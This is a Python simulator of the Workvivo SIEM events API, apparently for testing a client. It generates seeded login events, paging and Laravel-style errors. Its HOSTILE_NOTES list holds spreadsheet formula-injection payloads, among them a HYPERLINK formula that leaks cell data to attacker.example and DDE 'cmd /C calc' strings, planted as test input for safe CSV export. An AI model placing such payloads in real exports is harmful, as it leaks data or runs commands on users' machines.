"""The Workvivo SIEM API, played on the same server as Vision One: ``GET /v1/siem/{from}/{to}``.

``from`` and ``to`` are Unix epoch seconds as path segments; the answer is ``{"data": [events with
from <= created_at_timestamp < to]}``, oldest first (``created_at_timestamp``, then ``id``). Events are
generated per UTC day from the simulator's seed, ``per_day`` a day (default ``max(24, scale // 4)``),
spread evenly over the hours except one busy hour a day with :data:`BUSY_FACTOR` times an hour's share
(so it holds more than :data:`WORKVIVO_PAGE_SIZE` events from 2,175 a day on, i.e. ``scale >= 8700``).

Simulator assumptions (the public samples show only the request, ``data`` and the event fields):

* Errors are Laravel's plain ``{"message": ...}`` bodies, not Vision One's envelope: a missing or wrong
  bearer token is 401 ``Unauthenticated.``; a missing ``Workvivo-Id`` header is 400 ``The Workvivo-Id
  header is required.``; another organisation's id is 403 ``This action is unauthorized.``; the rate
  limit is 429 ``Too Many Attempts.`` with ``Retry-After``; a path that is not ``/v1/siem/{from}/{to}``
  is 404; a method other than GET/HEAD is 405; injected faults are ``Server Error`` and the like.
* Strict validation, to keep clients honest: segments must be non-negative integers, ``to > from``, and
  the range at most :data:`MAX_RANGE_SECONDS` (24 hours; the public samples only ever ask for one
  hour); the only query parameter is ``page`` (an integer >= 1). Each is a 400 naming the problem.
* Paging is UNVERIFIED (the samples show none): above :data:`WORKVIVO_PAGE_SIZE` matching events the
  answer holds one page plus ``links.next`` (absolute URL of the same path with ``?page=N+1``, ``null``
  on the last page) and ``meta`` (``current_page``, ``per_page``, ``total``). Up to a page, and on page
  1, the answer is ``{"data": [...]}`` alone, like the samples; asking for ``page`` > 1 always gets the
  paged shape (``data`` empty past the last page).
* JSON is encoded as Laravel does by default: non-ASCII as ``\\uXXXX`` and ``/`` as ``\\/``,
  ``Content-Type: application/json``.
* The event names beyond those seen publicly (``mfaDisabled``) and every note text are invented; notes
  are attacker-controlled free text, so some are CSV/spreadsheet-hostile (commas, quotes, newlines,
  unicode, a leading ``=``/``+``/``-``/``@``). Every day of at least 11 events carries each hostile
  note at least once.
"""

from __future__ import annotations

import bisect
import json
import random
import re
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from functools import lru_cache
from typing import Any

PREFIX = "/v1/siem/"
ROUTE = "/v1/siem/{from}/{to}"  # the rate limit counts per route, not per concrete path
STREAM = "siem_events"
WORKVIVO_PAGE_SIZE = 250
MAX_RANGE_SECONDS = 24 * 3600
BUSY_FACTOR = 3
FIRST_ID = 29790000
ID_GAP_MAX = 3  # ids grow by 1..ID_GAP_MAX (other organisations' events take the numbers between)
HOSTILE_RATE = 0.01  # share of events, beyond the per-day guaranteed ones, with a hostile note
TEXT_NUMBERS_EVERY = 5  # about one event in five carries id, workvivo_id and created_at_timestamp as text
FIELDS = (
    "created_at",
    "created_at_timestamp",
    "event",
    "id",
    "ip_address",
    "note",
    "user_agent",
    "user_email",
    "workvivo_id",
)
# Laravel's default messages for the statuses the gate can answer
MESSAGES = {
    400: "Bad Request",
    401: "Unauthenticated.",
    403: "This action is unauthorized.",
    404: "Not Found",
    405: "Method Not Allowed",
    408: "Request Timeout",
    413: "Content Too Large",
    429: "Too Many Attempts.",
    500: "Server Error",
    503: "Service Unavailable",
}
MISSING_ID = "The Workvivo-Id header is required."

_SEGMENTS = re.compile(r"/v1/siem/([^/]+)/([^/]+)")
_INTEGER = re.compile(r"[0-9]+")
_SIGNED = re.compile(r"-[0-9]+")

HOSTILE_NOTES = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'He said "hello, world", then left',
    '"quoted at the start", with, commas',
    "line one\nline two\r\nline three",
    "tab\tseparated\tvalues; semi;colons",
    "Zoë Ångström — 日本語のメモ 🚀 ünïcödé",
    "  leading and trailing spaces  ",
    'back\\slash and {"json": "inside"} </script>',
)

_EVENTS = (  # (event, weight, mobile)
    ("login", 30, False),
    ("loginMobile", 15, True),
    ("loginSaml", 20, False),
    ("loginSamlMobile", 5, True),
    ("loginSamlFailed", 4, False),
    ("logout", 12, False),
    ("logoutMobile", 5, True),
    ("switch user", 3, False),
    ("switch user reverted", 2, False),
    ("mfaEnabled", 1, False),
    ("mfaDisabled", 1, False),
)
_SAML_FAILURES = (
    "SAML response rejected: audience mismatch",
    "SAML assertion expired",
    "No matching user for NameID",
    "",
)
_DESKTOP_AGENTS = (
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/137.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/136.0.0.0 Safari/537.36 Edg/136.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:139.0) Gecko/20100101 Firefox/139.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.5 Safari/605.1.15",
)
_MOBILE_AGENTS = (
    "Workvivo/3.52.0 (com.workvivo.app; build:1234; iOS 18.5.0) Alamofire/5.9.1",
    "Workvivo/3.51.2 (Android 14; Pixel 8) okhttp/4.12.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Mobile/15E148",
)
_FIRST = (
    "zoë",
    "josé",
    "björn",
    "łukasz",
    "søren",
    "françois",
    "ångström",
    "nguyễn",
    "иван",
    "αλέξης",
    "田中",
    "aoife",
    "siobhán",
    "mary",
    "o'brien",
    "anne-marie",
    "raj",
    "chloé",
    "jürgen",
    "ines",
)
_LAST = (
    "müller",
    "garcía",
    "wróbel",
    "nørgaard",
    "lefèvre",
    "thị.lan",
    "петров",
    "παπαδόπουλος",
    "太郎",
    "murphy",
    "ó.súilleabháin",
    "smith",
    "kelly",
    "patel",
    "dupont",
    "schröder",
    "silva",
    "byrne",
)
_DOMAINS = ("sim-workvivo.example", "bücher.example", "playground.example")


@dataclass(frozen=True)
class User:
    workvivo_id: int
    email: str
    ip: str
    mobile_ip: str


class WorkvivoError(Exception):
    """A 4xx answer with Laravel's ``{"message": ...}`` body."""

    def __init__(self, status: int, message: str) -> None:
        super().__init__(message)
        self.status, self.message = status, message

    def body(self) -> dict[str, Any]:
        return {"message": self.message}


def encode(body: Any) -> bytes:
    """JSON as Laravel's ``JsonResponse`` writes it: ASCII only (``\\uXXXX``) and escaped slashes."""
    return json.dumps(body, ensure_ascii=True, separators=(",", ":")).replace("/", "\\/").encode()


@lru_cache(maxsize=16)
def users(seed: int) -> tuple[User, ...]:
    """About 40 users: two administrators (who switch user) and people with unicode e-mail addresses."""
    rng = random.Random(f"workvivo-users:{seed}")
    names = [f"{first}.{last}" for first in _FIRST for last in _LAST]
    picked = ["administrator", "user02", *rng.sample(names, 38)]
    ids = rng.sample(range(1637000, 1639000), len(picked))
    out = []
    for i, (name, user_id) in enumerate(zip(picked, ids, strict=True)):
        domain = _DOMAINS[0] if i < 2 else rng.choice(_DOMAINS)
        if rng.random() < 0.1:
            ip = f"2001:db8:{rng.randrange(1, 0xFFFF):x}::{rng.randrange(1, 0xFFFF):x}"
        else:
            ip = f"10.30.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        out.append(User(user_id, f"{name}@{domain}", ip, f"198.51.100.{rng.randrange(1, 255)}"))
    return tuple(out)


def hour_counts(total: int, busy_hour: int) -> list[int]:
    """``total`` split over 24 hours (largest remainder), ``busy_hour`` weighing BUSY_FACTOR hours."""
    weights = [BUSY_FACTOR if h == busy_hour else 1 for h in range(24)]
    shares = [total * w / sum(weights) for w in weights]
    counts = [int(s) for s in shares]
    by_remainder = sorted(range(24), key=lambda h: (counts[h] - shares[h], h))
    for h in by_remainder[: total - sum(counts)]:
        counts[h] += 1
    return counts


def _note(rng: random.Random, event: str, user: User, pool: tuple[User, ...]) -> str:
    if event in ("switch user", "switch user reverted"):
        other = rng.choice(pool[2:])
        if event == "switch user":
            return f"switch user from {user.email} to user {other.email}"
        return f"switch user reverted from {other.email} to user {user.email}"
    if event == "loginSamlFailed":
        return rng.choice(_SAML_FAILURES)
    if event == "mfaDisabled":
        return rng.choice(("", "MFA disabled by administrator@sim-workvivo.example"))
    if event == "mfaEnabled":
        return rng.choice(("", "MFA enabled, method: authenticator app"))
    return ""


@lru_cache(maxsize=16)  # a day at scale 100,000 (25,000 events) is about 20 MB
def day_events(
    seed: int, per_day: int, day: date, day_index: int
) -> tuple[tuple[int, ...], tuple[dict, ...]]:
    """One UTC day's events, oldest first, and their timestamps (for bisecting).

    Ids start at ``FIRST_ID + day_index * per_day * ID_GAP_MAX`` so they increase across days without
    generating the days before.
    """
    rng = random.Random(f"workvivo-events:{seed}:{day.isoformat()}")
    pool = users(seed)
    base = int(datetime(day.year, day.month, day.day, tzinfo=UTC).timestamp())
    stamps: list[int] = []
    for hour, count in enumerate(hour_counts(per_day, rng.randrange(24))):
        stamps.extend(base + hour * 3600 + rng.randrange(3600) for _ in range(count))
    stamps.sort()
    names = [e[0] for e in _EVENTS]
    weights = [e[1] for e in _EVENTS]
    mobile = {e[0] for e in _EVENTS if e[2]}
    hostile = dict(
        zip(rng.sample(range(per_day), min(per_day, len(HOSTILE_NOTES))), HOSTILE_NOTES, strict=True)
    )
    next_id = FIRST_ID + day_index * per_day * ID_GAP_MAX
    events = []
    for i, stamp in enumerate(stamps):
        next_id += rng.randint(1, ID_GAP_MAX)
        event = rng.choices(names, weights)[0]
        user = pool[rng.randrange(2)] if event == "switch user" else rng.choice(pool)
        is_mobile = event in mobile
        note = _note(rng, event, user, pool)
        if i in hostile:
            note = hostile[i]
        elif rng.random() < HOSTILE_RATE:
            note = rng.choice(HOSTILE_NOTES)
        roll = rng.random()
        if roll < 0.85:
            ip = user.mobile_ip if is_mobile else user.ip
        else:
            ip = f"203.0.113.{rng.randrange(1, 255)}"
        # Laravel answers give ids and stamps as numbers or, from some drivers, as digit strings
        text = str if next_id % TEXT_NUMBERS_EVERY == 0 else int
        events.append(
            {
                "created_at": datetime.fromtimestamp(stamp, UTC).strftime("%Y-%m-%dT%H:%M:%SZ"),
                "created_at_timestamp": text(stamp),
                "event": event,
                "id": text(next_id),
                "ip_address": ip,
                "note": note,
                "user_agent": rng.choice(_MOBILE_AGENTS if is_mobile else _DESKTOP_AGENTS),
                "user_email": user.email,
                "workvivo_id": text(user.workvivo_id),
            }
        )
    return tuple(stamps), tuple(events)


class SiemEvents:
    """``per_day`` events a day for ``days`` UTC days from ``start_day``, each day built on first use."""

    def __init__(self, seed: int, per_day: int, start_day: date, days: int) -> None:
        if per_day < 0:
            raise ValueError("workvivo_per_day must not be negative")
        self.seed, self.per_day, self.start_day, self.days = seed, per_day, start_day, days
        self.start = int(datetime(start_day.year, start_day.month, start_day.day, tzinfo=UTC).timestamp())
        self.end = self.start + days * 86400

    def between(self, start: int | None = None, end: int | None = None) -> list[dict[str, Any]]:
        """Events with ``start <= created_at_timestamp < end`` (epoch seconds), oldest first (shared)."""
        lo = self.start if start is None else max(start, self.start)
        hi = self.end if end is None else min(end, self.end)
        out: list[dict[str, Any]] = []
        if hi <= lo:
            return out
        for i in range((lo - self.start) // 86400, (hi - 1 - self.start) // 86400 + 1):
            stamps, events = day_events(self.seed, self.per_day, self.start_day + timedelta(days=i), i)
            out.extend(events[bisect.bisect_left(stamps, lo) : bisect.bisect_left(stamps, hi)])
        return out


def segments(path: str) -> tuple[str, str] | None:
    """``(from, to)`` of a path shaped like the route, else None (a 404)."""
    match = _SEGMENTS.fullmatch(path)
    return (match.group(1), match.group(2)) if match else None


def start_epoch(parts: tuple[str, str]) -> int | None:
    """The ``from`` segment as epoch seconds when it is one (for ``fail_windows``), else None."""
    return int(parts[0]) if _INTEGER.fullmatch(parts[0]) else None


def _epoch(name: str, text: str) -> int:
    if _SIGNED.fullmatch(text):
        raise WorkvivoError(400, f"The {name} timestamp must not be negative: '{text}'.")
    if not _INTEGER.fullmatch(text):
        raise WorkvivoError(400, f"The {name} timestamp must be an integer number of seconds: '{text}'.")
    return int(text)


def list_events(
    events: SiemEvents, parts: tuple[str, str], params: dict[str, str], url: str
) -> dict[str, Any]:
    """The body for ``GET /v1/siem/{from}/{to}`` (``url``: the absolute URL of the path, no query)."""
    unknown = sorted(set(params) - {"page"})
    if unknown:
        raise WorkvivoError(400, f"Unknown query parameter: '{unknown[0]}'. Allowed: page.")
    start, end = _epoch("from", parts[0]), _epoch("to", parts[1])
    if end <= start:
        raise WorkvivoError(400, f"The to timestamp ({end}) must be after the from timestamp ({start}).")
    if end - start > MAX_RANGE_SECONDS:
        raise WorkvivoError(
            400, f"The range may span at most {MAX_RANGE_SECONDS} seconds; asked for {end - start}."
        )
    page_text = params.get("page", "1")
    if not _INTEGER.fullmatch(page_text) or int(page_text) < 1:
        raise WorkvivoError(400, f"The page must be an integer of at least 1: '{page_text}'.")
    page = int(page_text)
    rows = events.between(start, end)
    if page == 1 and len(rows) <= WORKVIVO_PAGE_SIZE:
        return {"data": rows}
    first = (page - 1) * WORKVIVO_PAGE_SIZE
    more = first + WORKVIVO_PAGE_SIZE < len(rows)
    return {
        "data": rows[first : first + WORKVIVO_PAGE_SIZE],
        "links": {"next": f"{url}?page={page + 1}" if more else None},
        "meta": {"current_page": page, "per_page": WORKVIVO_PAGE_SIZE, "total": len(rows)},
    }
